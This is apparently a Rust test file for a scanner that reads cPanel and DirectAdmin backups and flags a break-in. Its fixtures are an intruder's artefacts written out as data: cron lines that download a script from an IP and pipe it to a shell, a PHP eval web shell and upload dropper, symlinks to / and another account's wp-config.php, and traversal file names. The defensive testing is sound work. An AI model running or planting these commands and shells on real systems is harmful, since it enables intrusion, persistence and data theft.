//! A cPanel full backup read as the whole account: cron, SSH keys, code outside the web root,
//! symlinks leaving the account, mail forwarders, every login by name, every site. The backup
//! is written here as cPanel writes one (`backup-M.D.YYYY_HH-MM-SS_USER/` with `cp/`, `cron/`,
//! `homedir/`, `mysql/`, `userdata/`, `va/`, `proftpdpasswd`…); everything planted is defanged.

use super::*;

/// An entry of the test tar: a file, or a symbolic link to `target`.
enum E<'a> {
    File(&'a str, &'a [u8], u64),
    Link(&'a str, &'a str),
}

const BEFORE: u64 = 1_698_900_000; // 2023-11-02, the owner's last changes
const BREAK_IN: u64 = 1_722_136_000; // 2024-07-28, the intruder's

fn cpanel_tar(entries: &[E]) -> Vec<u8> {
    use std::io::Write;
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        let mut h = tar::Header::new_gnu();
        h.set_mode(0o644);
        match e {
            E::File(name, data, mtime) => {
                h.set_size(data.len() as u64);
                h.set_mtime(*mtime);
                h.set_entry_type(tar::EntryType::Regular);
                if name.contains("..") {
                    // The tar crate refuses such names; an attacker's tool does not.
                    let raw = &mut h.as_gnu_mut().unwrap().name;
                    raw[..name.len()].copy_from_slice(name.as_bytes());
                    h.set_cksum();
                    b.append(&h, *data).unwrap();
                } else {
                    b.append_data(&mut h, name, *data).unwrap();
                }
            }
            E::Link(name, target) => {
                h.set_size(0);
                h.set_mtime(BREAK_IN);
                h.set_entry_type(tar::EntryType::Symlink);
                b.append_link(&mut h, name, target).unwrap();
            }
        }
    }
    let raw = b.into_inner().unwrap();
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(&raw).unwrap();
    enc.finish().unwrap()
}

/// A key blob as OpenSSH writes it (type, then made-up key material), base64.
fn key(t: &str, fill: u8) -> String {
    let mut blob = (t.len() as u32).to_be_bytes().to_vec();
    blob.extend_from_slice(t.as_bytes());
    blob.extend_from_slice(&[0, 0, 0, 32]);
    blob.extend_from_slice(&[fill; 32]);
    b64(&blob)
}

fn b64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= c.len() {
                out.push(A[((n >> (18 - 6 * k)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

const B: &str = "backup-8.1.2024_03-00-00_jane/";

fn p(rest: &str) -> String {
    format!("{B}{rest}")
}

/// The whole account: owner's files from 2023, the intruder's from 2024-07-28.
pub fn account_backup(extra: &[(String, Vec<u8>, u64)]) -> Vec<u8> {
    let cron = b"MAILTO=\"jane@janes-bakery.example\"\nSHELL=\"/bin/bash\"\n*/15 * * * * /usr/local/bin/php /home/jane/public_html/wp-cron.php >/dev/null 2>&1\n*/10 * * * * curl -fsSL http://198.51.100.7/.x/u.sh | bash >/dev/null 2>&1\n0 * * * * /usr/local/bin/php /home/jane/public_html/wp-content/uploads/2024/07/cache.php >/dev/null 2>&1\n".to_vec();
    let keys = format!(
        "ssh-ed25519 {} jane@laptop\nssh-ed25519 {} deploy@build-7\n",
        key("ssh-ed25519", 1),
        key("ssh-ed25519", 2)
    );
    let userdata_main = b"---\naddon_domains:\n  cakes.example: cakes.janes-bakery.example\nmain_domain: janes-bakery.example\nparked_domains: []\nsub_domains:\n  - cakes.janes-bakery.example\n";
    let ud_main_site = b"---\ncustomlog:\n  - format: combined\ndocumentroot: /home/jane/public_html\ngroup: jane\nhomedir: /home/jane\nip: 203.0.113.20\nserveradmin: webmaster@janes-bakery.example\nservername: janes-bakery.example\nuser: jane\n";
    let ud_addon = b"---\ndocumentroot: /home/jane/cakes.example\nservername: cakes.janes-bakery.example\nuser: jane\n";
    let wp_dump = b"CREATE TABLE `wp_users` (\n  `ID` bigint(20) unsigned NOT NULL AUTO_INCREMENT,\n  `user_login` varchar(60) NOT NULL DEFAULT '',\n  `user_pass` varchar(255) NOT NULL DEFAULT '',\n  `user_nicename` varchar(50) NOT NULL DEFAULT '',\n  `user_email` varchar(100) NOT NULL DEFAULT '',\n  `user_url` varchar(100) NOT NULL DEFAULT '',\n  `user_registered` datetime NOT NULL DEFAULT '0000-00-00 00:00:00',\n  PRIMARY KEY (`ID`)\n);\nINSERT INTO `wp_users` VALUES (1,'jane','$P$BREDACTEDREDACTEDREDACTEDRED','jane','jane@janes-bakery.example','','2019-04-12 08:00:00'),(9,'wpsupport','$P$BREDACTEDREDACTEDREDACTEDRED','x','wpsupport@mailinator.com','','2024-07-28 03:14:00');\nINSERT INTO `wp_usermeta` VALUES (1,1,'wp_capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}'),(40,9,'wp_capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}');\n";
    let mut files: Vec<(String, Vec<u8>, u64)> = vec![
        (p("version"), b"archive version: 4\n".to_vec(), BEFORE),
        (p("cp/jane"), b"DNS=janes-bakery.example\nDNS1=cakes.example\nPLAN=default\nUSER=jane\n".to_vec(), BEFORE),
        (p("cron/jane"), cron, BREAK_IN),
        (p("proftpdpasswd"), b"jane:$6$REDACTEDSALT$REDACTEDFTPHASH:1001:1001::/home/jane:/bin/ftpsh\nuploads@janes-bakery.example:$6$REDACTEDSALT$REDACTEDFTPHASH2:1001:1001:jane:/home/jane/public_html/uploads:/bin/ftpsh\n".to_vec(), BEFORE),
        (p("mysql.sql"), b"GRANT USAGE ON *.* TO 'jane'@'localhost' IDENTIFIED BY PASSWORD '*2470C0C06DEE42FD1618BB99005ADCA2EC9D1E19';\nGRANT ALL PRIVILEGES ON `jane\\_wp`.* TO 'jane_wp'@'localhost';\n".to_vec(), BEFORE),
        (p("mysql/jane_wp.sql"), wp_dump.to_vec(), BEFORE),
        (p("userdata/main"), userdata_main.to_vec(), BEFORE),
        (p("userdata/janes-bakery.example"), ud_main_site.to_vec(), BEFORE),
        (p("userdata/cakes.janes-bakery.example"), ud_addon.to_vec(), BEFORE),
        (p("va/janes-bakery.example"), b"info@janes-bakery.example: jane.private@mail.example\norders@janes-bakery.example: |/home/jane/.local/share/.m/hook.php\n*: jane\n".to_vec(), BEFORE),
        (p("homedir/.ssh/authorized_keys"), keys.into_bytes(), BREAK_IN),
        (p("homedir/etc/janes-bakery.example/passwd"), b"info:x:1001:1001::/home/jane/mail/janes-bakery.example/info:/home/jane\n".to_vec(), BEFORE),
        (p("homedir/etc/janes-bakery.example/shadow"), b"info:$6$REDACTEDSALT$REDACTEDMAILHASH:19000::::::\n".to_vec(), BEFORE),
        (p("homedir/public_html/wp-includes/version.php"), b"<?php\n$wp_version = '6.5.5';\n".to_vec(), BEFORE),
        (p("homedir/public_html/index.php"), b"<?php\ndefine( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n".to_vec(), BEFORE),
        (p("homedir/public_html/wp-content/uploads/2024/07/cache.php"), b"<?php __halt_compiler(); @eval($_POST['x']);\n".to_vec(), BREAK_IN),
        (p("homedir/cakes.example/index.html"), b"<!doctype html><title>Cakes</title>\n".to_vec(), BEFORE),
        (p("homedir/tmp/.sess/up.php"), b"<?php __halt_compiler();\nif (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }\n".to_vec(), BREAK_IN),
        (p("homedir/.cache/.x/kswapd.sh"), b"#!/bin/sh\nexit 0 # defanged: a miner's start script would follow\n".to_vec(), BREAK_IN),
        (p("homedir/bin/backup-db.sh"), b"#!/bin/sh\nmysqldump jane_wp > ~/db.sql\n".to_vec(), BEFORE),
    ];
    files.extend(extra.iter().cloned());
    let mut entries: Vec<E> = files
        .iter()
        .map(|(n, d, t)| E::File(n.as_str(), d.as_slice(), *t))
        .collect();
    let links = [
        (p("homedir/www"), "public_html"),
        (
            p("homedir/public_html/wp-content/uploads/2024/07/sym/root"),
            "/",
        ),
        (
            p("homedir/public_html/wp-content/uploads/2024/07/sym/neighbour.txt"),
            "/home/bob/public_html/wp-config.php",
        ),
        (p("homedir/public_html/loop-a"), "loop-b"),
        (p("homedir/public_html/loop-b"), "loop-a"),
        (p("homedir/public_html/up"), "../../../../../../etc/passwd"),
    ];
    entries.extend(links.iter().map(|(n, t)| E::Link(n.as_str(), t)));
    cpanel_tar(&entries)
}

fn file<'a>(r: &'a engine::Report, rest: &str) -> &'a engine::report::FileReport {
    let name = p(rest);
    r.files
        .iter()
        .find(|f| f.path == name)
        .unwrap_or_else(|| panic!("{name} not in the report"))
}

#[test]
fn a_cpanel_full_backup_is_read_as_the_whole_account() {
    let bytes = account_backup(&[]);
    let r = scan_with(&bytes, "backup-8.1.2024_03-00-00_jane.tar.gz", &[]).unwrap();
    assert_eq!(r.verdict, SiteVerdict::Compromised);
    let a = r.account.as_ref().expect("the account section");
    assert_eq!(a.panel, "cPanel");
    assert_eq!(a.user.as_deref(), Some("jane"));
    assert_eq!(a.home, p("homedir/"));

    // Every site with its root.
    let sites: Vec<(&str, &str, &str)> = a
        .sites
        .iter()
        .map(|s| (s.domain.as_str(), s.kind.as_str(), s.root.as_str()))
        .collect();
    let main_root = p("homedir/public_html/");
    let addon_root = p("homedir/cakes.example/");
    assert!(
        sites.contains(&("janes-bakery.example", "main domain", main_root.as_str())),
        "{sites:?}"
    );
    assert!(
        sites.contains(&("cakes.example", "addon domain", ""))
            || sites.iter().any(|s| s.2 == addon_root),
        "{sites:?}"
    );
    assert!(r.roots.contains(&addon_root), "{:?}", r.roots);

    // Cron: both lines in plain words, the intruder's malicious at its line.
    assert_eq!(a.cron.len(), 3);
    assert_eq!(a.cron[0].when, "every 15 minutes");
    assert_eq!(a.cron[0].verdict, Verdict::Clean);
    assert_eq!(a.cron[1].verdict, Verdict::Malicious);
    // A harmless-looking line that runs the planted backdoor is the intruder's too.
    assert_eq!(a.cron[2].verdict, Verdict::Malicious, "{:?}", a.cron[2]);
    assert!(a.cron[2].flags[0].contains("cache.php"));
    let cron = file(&r, "cron/jane");
    assert_eq!(cron.verdict, Verdict::Malicious);
    assert_eq!(
        cron.findings
            .iter()
            .find(|f| f.rule == "cron-intruder-task")
            .and_then(|f| f.line),
        Some(4)
    );

    // SSH keys: listed with fingerprints; their file changed during the break-in.
    assert_eq!(a.ssh_keys.len(), 2);
    assert!(a
        .ssh_keys
        .iter()
        .all(|k| k.fingerprint.starts_with("SHA256:")));
    assert!(a
        .ssh_keys
        .iter()
        .all(|k| k.flags.iter().any(|f| f.contains("during the break-in"))));
    assert!(a.ssh_keys.iter().all(|k| k.verdict == Verdict::Malicious));
    let keys = file(&r, "homedir/.ssh/authorized_keys");
    assert_eq!(keys.verdict, Verdict::Malicious, "{:?}", keys.findings);

    // Code outside the web root.
    for (rest, least) in [
        ("homedir/tmp/.sess/up.php", Verdict::Suspicious),
        ("homedir/.cache/.x/kswapd.sh", Verdict::Suspicious),
    ] {
        let f = file(&r, rest);
        assert_eq!(f.location, Some(Location::OutsideSite), "{rest}");
        assert!(f.verdict >= least, "{rest}: {:?}", f.verdict);
    }
    let own = file(&r, "homedir/bin/backup-db.sh");
    assert_eq!(
        (own.location, own.verdict),
        (Some(Location::OutsideSite), Verdict::Clean)
    );

    // Links: to / and to another account are malicious; www, the loop and in-site links are not.
    let links: Vec<&str> = r
        .files
        .iter()
        .filter(|f| {
            f.findings
                .iter()
                .any(|x| x.rule == "symlink-out-of-account")
        })
        .map(|f| f.path.as_str())
        .collect();
    let mut want = vec![
        p("homedir/public_html/up"),
        p("homedir/public_html/wp-content/uploads/2024/07/sym/neighbour.txt"),
        p("homedir/public_html/wp-content/uploads/2024/07/sym/root"),
    ];
    want.sort();
    let mut got: Vec<String> = links.iter().map(|s| s.to_string()).collect();
    got.sort();
    assert_eq!(got, want);

    // Forwarders: the program pipe is a finding; the private address is listed and marked.
    assert_eq!(a.forwarders.len(), 2, "{:?}", a.forwarders);
    assert!(a
        .forwarders
        .iter()
        .any(|f| f.to == "jane.private@mail.example" && !f.flags.is_empty()));
    assert!(file(&r, "va/janes-bakery.example")
        .findings
        .iter()
        .any(|f| f.rule == "mail-pipe-to-program"));

    // Logins, by name only.
    let logins: Vec<(&str, &str)> = a
        .logins
        .iter()
        .map(|l| (l.kind.as_str(), l.name.as_str()))
        .collect();
    for want in [
        ("control panel", "jane"),
        ("email", "info@janes-bakery.example"),
        ("FTP", "jane"),
        ("FTP", "uploads@janes-bakery.example"),
        ("database", "jane"),
        ("database", "jane_wp"),
    ] {
        assert!(logins.contains(&want), "{want:?} not in {logins:?}");
    }
    // The rogue WordPress administrator in the account's dump.
    assert!(r
        .accounts
        .iter()
        .any(|x| x.login == "wpsupport" && !x.flags.is_empty()));

    // The checklist names the real accounts, and each way back in.
    let steps = engine::present::checklist::build(&r);
    let items = |id: &str| -> String {
        steps
            .iter()
            .find(|s| s.id == id)
            .map(|s| s.items.join("\n"))
            .unwrap_or_else(|| panic!("no step {id}"))
    };
    let passwords = items("passwords");
    for name in [
        "\"jane\"",
        "info@janes-bakery.example",
        "uploads@janes-bakery.example",
        "jane_wp",
        "wpsupport",
    ] {
        assert!(passwords.contains(name), "{name} not in: {passwords}");
    }
    let back_in = items("account");
    for what in [
        "line 4 of",
        "deploy@build-7",
        "orders@janes-bakery.example",
        "sym/root",
    ] {
        assert!(back_in.contains(what), "{what} not in: {back_in}");
    }
    // Every renderer shows the account, in plain words.
    let text = engine::present::render::text(&r, 50);
    assert!(
        text.contains(
            "(main domain) in backup-8.1.2024_03-00-00_jane/homedir/public_html/: WordPress"
        ),
        "{text}"
    );
    assert!(
        text.contains("Scheduled tasks (cron)") && text.contains("every 15 minutes"),
        "{text}"
    );
    let md = engine::present::render::markdown(&r);
    assert!(md.contains("## SSH keys") && md.contains("SHA256:"), "{md}");
    let html = engine::present::render::html(&r, None);
    assert!(
        html.contains("id=\"forwarders\"") && !html.contains("<script"),
        "{html}"
    );

    // Nothing secret leaves: no hash of any kind in the report.
    let json = serde_json::to_string(&r).unwrap();
    for secret in [
        "REDACTEDFTPHASH",
        "REDACTEDMAILHASH",
        "2470C0C06DEE",
        "$P$B",
    ] {
        assert!(!json.contains(secret), "{secret} leaked into the report");
    }
}

#[test]
fn hostile_account_files_stay_bounded() {
    let huge_cron = "* * * * * /bin/true\n".repeat(600_000).into_bytes(); // ~11 MB
    let mut keys = String::new();
    keys.push_str("ssh-ed25519 \u{1b}[2J\u{7} evil\u{0}\n");
    keys.push_str(&"x\n".repeat(1_000_000));
    let extra = vec![
        (p("cron/jane"), huge_cron, BREAK_IN),
        (
            p("homedir/.ssh/authorized_keys"),
            keys.into_bytes(),
            BREAK_IN,
        ),
        (
            p("va/../../etc/evil.example"),
            b"a: |/bin/sh\n".to_vec(),
            BREAK_IN,
        ),
    ];
    let bytes = account_backup(&extra);
    let r = scan_with(&bytes, "b.tar.gz", &[]).unwrap();
    let a = r.account.as_ref().unwrap();
    assert!(a.cron.len() <= 2_000, "{}", a.cron.len());
    assert!(a
        .ssh_keys
        .iter()
        .all(|k| k.comment.chars().all(|c| !c.is_control())));
    // A name climbing out with ../ is a warning, and read for nothing outside the backup.
    assert!(r
        .warnings
        .iter()
        .any(|w| w.kind == WarningKind::SuspiciousName));
    assert!(
        !a.forwarders.iter().any(|f| f.to == "|/bin/sh"),
        "{:?}",
        a.forwarders
    );
}

#[test]
fn a_directadmin_backup_is_read_with_the_same_machinery() {
    let files: Vec<(&str, &[u8])> = vec![
        ("backup/user.conf", b"username=joe\ndomain=joe.example\n"),
        ("backup/crontab.conf", b"1=*/30 * * * * /usr/local/bin/php /home/joe/domains/joe.example/public_html/cron.php\n2=@reboot wget -q -O- http://198.51.100.7/a | sh\n"),
        ("backup/joe.example/email/passwd", b"info:{SHA512-CRYPT}REDACTEDDAHASH\n"),
        ("backup/joe.example/email/aliases", b"sales:joe.private@mail.example\n"),
        ("domains/joe.example/public_html/index.php", b"<?php echo 'hi';\n"),
        ("domains/shop.example/public_html/index.html", b"<p>shop</p>\n"),
    ];
    let r = scan(&tar(&files, true)).unwrap();
    let a = r.account.as_ref().expect("the account section");
    assert_eq!(a.panel, "DirectAdmin");
    assert_eq!(a.user.as_deref(), Some("joe"));
    assert!(a
        .logins
        .iter()
        .any(|l| l.kind == "control panel" && l.name == "joe"));
    let domains: Vec<&str> = a.sites.iter().map(|s| s.domain.as_str()).collect();
    assert_eq!(domains, ["joe.example", "shop.example"]);
    assert_eq!(a.cron.len(), 2);
    assert_eq!(a.cron[1].verdict, Verdict::Malicious);
    assert_eq!(a.cron[1].when, "every time the server starts");
    assert_eq!(
        status_of(&r, "backup/crontab.conf").unwrap().verdict,
        Verdict::Malicious
    );
    assert!(a
        .logins
        .iter()
        .any(|l| l.kind == "email" && l.name == "info@joe.example"));
    assert_eq!(a.forwarders.len(), 1);
    assert_eq!(a.forwarders[0].from, "sales@joe.example");
    assert!(!serde_json::to_string(&r)
        .unwrap()
        .contains("REDACTEDDAHASH"));
}
